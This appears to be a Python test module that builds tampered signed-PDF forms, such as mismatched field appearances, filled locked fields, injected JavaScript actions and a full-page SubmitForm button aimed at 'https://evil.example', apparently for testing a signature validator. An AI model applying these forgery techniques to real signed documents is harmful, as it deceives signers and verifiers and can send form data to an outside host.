"""Attacks on forms: a field that shows something else than it holds, that acts, or is filled in though it is locked."""

from __future__ import annotations

import random
from typing import Any

from pikepdf import Array, Dictionary, Name

from tests.attacks.register import attack
from tests.attacks.rich import form
from tests.attacks.subjects import Subject
from tests.attacks.workbench import NotHereError, Workbench

WORDS = ("9,000 EUR", "accepted", "void", "Erika", "no", "12.12.2030", "IBAN DE00")
TEXT_FIELDS = ("amount", "note")
SCRIPT = "app.alert(this.getField('amount').value)"


def look(bench: Workbench, words: str, *, size: int = 10, before: bytes = b"", after: bytes = b"", x: int = 2) -> Any:
    """Return an appearance that shows words."""
    font = bench.found(bench.form, "/DR", "/Font", "/F1")
    content = b"/Tx BMC q %s BT /F1 %d Tf 0 g %d 5 Td (%s) Tj ET %s Q EMC" % (
        before,
        size,
        x,
        words.encode("latin-1"),
        after,
    )
    return form(bench.pdf, content, (0, 0, 150, 18), {"F1": font})


def fill(bench: Workbench, name: str, words: str) -> None:
    """Fill a text field in honestly."""
    field = bench.field(name)
    field.V = words
    field.AP = Dictionary(N=look(bench, words))


def _some(bench: Workbench, chance: random.Random, *names: str) -> Any:
    return bench.field(chance.choice(names or ("amount", "note", "fixed", "agree", "choice")))


@attack("values")
def value_alone(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("amount").V = chance.choice(WORDS)


@attack("picture")
def appearance_alone(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("amount").AP = Dictionary(N=look(bench, chance.choice(WORDS)))


@attack("picture")
def appearance_overwritten(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("amount").AP.N.write(look(bench, chance.choice(WORDS)).read_bytes())


@attack("picture")
def value_and_appearance_differ(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    one, other = chance.sample(WORDS, 2)
    field = _some(bench, chance, *TEXT_FIELDS)
    field.V, field.AP = one, Dictionary(N=look(bench, other))


@attack("picture")
def appearance_draws_over(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    words = chance.choice(WORDS)
    field = _some(bench, chance, *TEXT_FIELDS)
    field.V = words
    way = chance.randrange(4)
    if way == 0:
        field.AP = Dictionary(N=look(bench, words, after=b"1 0 0 rg 0 0 150 18 re f"))
    elif way == 1:
        field.AP = Dictionary(N=look(bench, words, x=400, before=b"0 0 1 rg 10 4 m 60 4 l 60 12 l f"))
    elif way == 2:
        field.AP = Dictionary(N=look(bench, words, before=b"3 Tr"))
    else:
        shown = look(bench, words, before=b"/X Do")
        shown.Resources.XObject = Dictionary(X=look(bench, chance.choice(WORDS)))
        field.AP = Dictionary(N=shown)


@attack("picture")
def appearance_in_own_font(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    words = "1000"
    field = _some(bench, chance, *TEXT_FIELDS)
    font = bench.found(bench.pages[0], "/Resources", "/Font", "/F3")
    own = bench.add(Dictionary(font))
    glyphs = Dictionary(font.CharProcs)
    glyphs.one = bench.stream(b"600 0 0 0 600 800 d1 0 0 600 %d re f" % chance.randrange(300, 900))
    own.CharProcs = glyphs
    field.V = words
    field.AP = Dictionary(
        N=form(bench.pdf, b"BT 0.01 0 0 0.01 2 5 Tm /F9 1 Tf (1000) Tj ET", (0, 0, 150, 18), {"F9": own})
    )


@attack("picture")
def font_of_form_exchanged(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    words = chance.choice(WORDS)
    field = _some(bench, chance, *TEXT_FIELDS)
    bench.form.DR.Font.F1 = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.ZapfDingbats)
    field.V, field.AP = words, Dictionary(N=form(bench.pdf, b"BT /F1 10 Tf 2 5 Td (x) Tj ET", (0, 0, 150, 18)))


@attack("values")
def filled_where_locked(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    names = [name for name in TEXT_FIELDS if subject.certified == 1 or name in subject.locked]
    if not names:
        raise NotHereError
    fill(bench, chance.choice(names), chance.choice(WORDS))


@attack("values")
def replaced_where_nothing_permits_it(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    """Honest in form, but whoever signed saw another value, and no certification permits to change it."""
    if subject.certified:
        raise NotHereError
    fill(bench, "amount", chance.choice(WORDS))


@attack("values")
def box_ticked_where_locked(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    if subject.certified != 1 and "agree" not in subject.locked:
        raise NotHereError
    field = bench.field("agree")
    field.V = field.AS = Name.Yes


@attack("values")
def read_only_filled(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    fill(bench, "fixed", chance.choice(WORDS))


@attack("values")
def inner_filled_where_locked(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    if subject.certified != 1 and "group" not in subject.locked:
        raise NotHereError
    field = bench.field("group").Kids[0]
    words = chance.choice(WORDS)
    field.V, field.AP = words, Dictionary(N=look(bench, words))


@attack("picture")
def box_looks_otherwise(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = bench.field("agree")
    way = chance.randrange(3)
    if way == 0:
        field.AS = Name.Yes
    elif way == 1:
        field.AP.N.Off.write(b"0 g 2 2 8 8 re f")
    else:
        field.AP = Dictionary(N=Dictionary(Yes=field.AP.N.Off, Off=field.AP.N.Yes))


@attack("values")
def box_value_alone(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("agree").V = Name.Yes


@attack("behaviour")
def viewers_draw(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.form.NeedAppearances = True


@attack("behaviour")
def looks(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = _some(bench, chance)
    field.MK = Dictionary(CA=chance.choice(WORDS), BG=Array([chance.random(), 0, 0]))


@attack("behaviour")
def acts(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = _some(bench, chance)
    action = Dictionary(S=Name.JavaScript, JS=SCRIPT)
    if chance.random() < 0.3:
        field.A = Dictionary(S=Name.URI, URI="https://evil.example")
    else:
        field.AA = Dictionary({f"/{chance.choice(['K', 'F', 'C', 'V', 'E', 'D', 'Fo', 'Bl'])}": action})


@attack("behaviour")
def calculates(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = bench.field("amount")
    field.AA = Dictionary(C=Dictionary(S=Name.JavaScript, JS="event.value = 9000"))
    bench.form.CO = Array([field])


@attack("behaviour")
def rules_changed(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = bench.field("amount")
    key, value = chance.choice(
        (
            ("/Ff", 4096),
            ("/MaxLen", 2),
            ("/DV", "9,000"),
            ("/TU", "something else"),
            ("/Q", 2),
            ("/F", 2),
            ("/FT", Name.Btn),
        )
    )
    field[key] = value


@attack("behaviour")
def unlocked(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("fixed").Ff = 0


@attack("behaviour")
def unlocked_and_filled(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("fixed").Ff = 0
    fill(bench, "fixed", chance.choice(WORDS))


@attack("behaviour")
def moved(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    x, y = chance.randrange(30, 200), chance.randrange(200, 500)
    _some(bench, chance).Rect = Array([x, y, x + 150, y + 18])


@attack("behaviour")
def options(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("choice").Opt = Array([Array(["1", "two"]), Array(["2", "one"])])


@attack("behaviour")
def renamed(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    _some(bench, chance).T = chance.choice(("price", "note2", "amount2"))


@attack("behaviour")
def removed(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    fields = list(bench.form.Fields)
    del fields[chance.randrange(5)]
    bench.form.Fields = Array(fields)


@attack("behaviour")
def text_field_added(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    page = bench.pages[0]
    x, y = chance.randrange(30, 250), chance.randrange(200, 450)
    words = chance.choice(WORDS)
    field = bench.add(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=f"new{chance.randrange(99)}",
            V=words,
            Rect=Array([x, y, x + 150, y + 18]),
            P=page,
            F=4,
            AP=Dictionary(N=look(bench, words)),
        )
    )
    bench.form.Fields.append(field)
    page.Annots.append(field)


@attack("behaviour")
def button_added(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = bench.add(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T="go",
            Rect=Array([0, 0, 420, 595]),
            P=bench.pages[0],
            A=Dictionary(S=Name.SubmitForm, F="https://evil.example"),
        )
    )
    bench.form.Fields.append(field)
    bench.pages[0].Annots.append(field)


@attack("picture")
def signature_field_over_text(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    page = chance.choice(bench.pages[:2])
    cover = form(bench.pdf, b"1 1 0 rg 0 0 300 120 re f", (0, 0, 300, 120))
    y = chance.randrange(440, 470)
    field = bench.add(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Sig,
            T=f"S{chance.randrange(99)}",
            Rect=Array([30, y, 330, y + 90]),
            P=page,
            F=132,
            AP=Dictionary(N=cover),
        )
    )
    bench.form.Fields.append(field)
    page.Annots.append(field)


@attack("picture")
def empty_signature_field_shows_words(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    field = bench.field("Empty")
    field.AP = Dictionary(N=look(bench, chance.choice(WORDS)))
    if chance.random() < 0.5:
        field.Rect = Array([45, 225, 245, 255])


@attack("values")
def rich_value(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.field("amount").RV = f"<body><p>{chance.choice(WORDS)}</p></body>"
    bench.field("amount").V = chance.choice(WORDS)


@attack("behaviour")
def other_forms(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    bench.form.XFA = bench.stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")


@attack("behaviour")
def default_appearance(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    note = bench.field("note")  # where no field shows text, this says nothing
    target = bench.form if chance.random() < 0.5 else note
    target.DA = chance.choice(("/F2 10 Tf 1 g", "/ZaDb 10 Tf 0 g", "/F1 0.1 Tf 0 g"))


@attack("picture")
def appearance_of_shared_drawing(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    drawing = bench.found(bench.pages[0], "/Resources", "/XObject", "/Draw")
    words = chance.choice(WORDS)
    field = _some(bench, chance, *TEXT_FIELDS)
    field.V, field.AP = words, Dictionary(N=drawing)
    shown = look(bench, words)
    drawing.write(shown.read_bytes())
    drawing.BBox, drawing.Resources = shown.BBox, shown.Resources


@attack("picture")
def filled_and_shown_elsewhere(bench: Workbench, chance: random.Random, subject: Subject) -> None:
    """Filled in where that is permitted; but a remark was made to show the same appearance before it was signed."""
    if not subject.prepared:
        raise NotHereError
    words = chance.choice(WORDS)
    field = bench.field("amount")
    field.V = words
    if chance.random() < 0.5:
        field.AP.N.write(look(bench, words).read_bytes())
    else:
        field.AP.N = bench.add(look(bench, words))
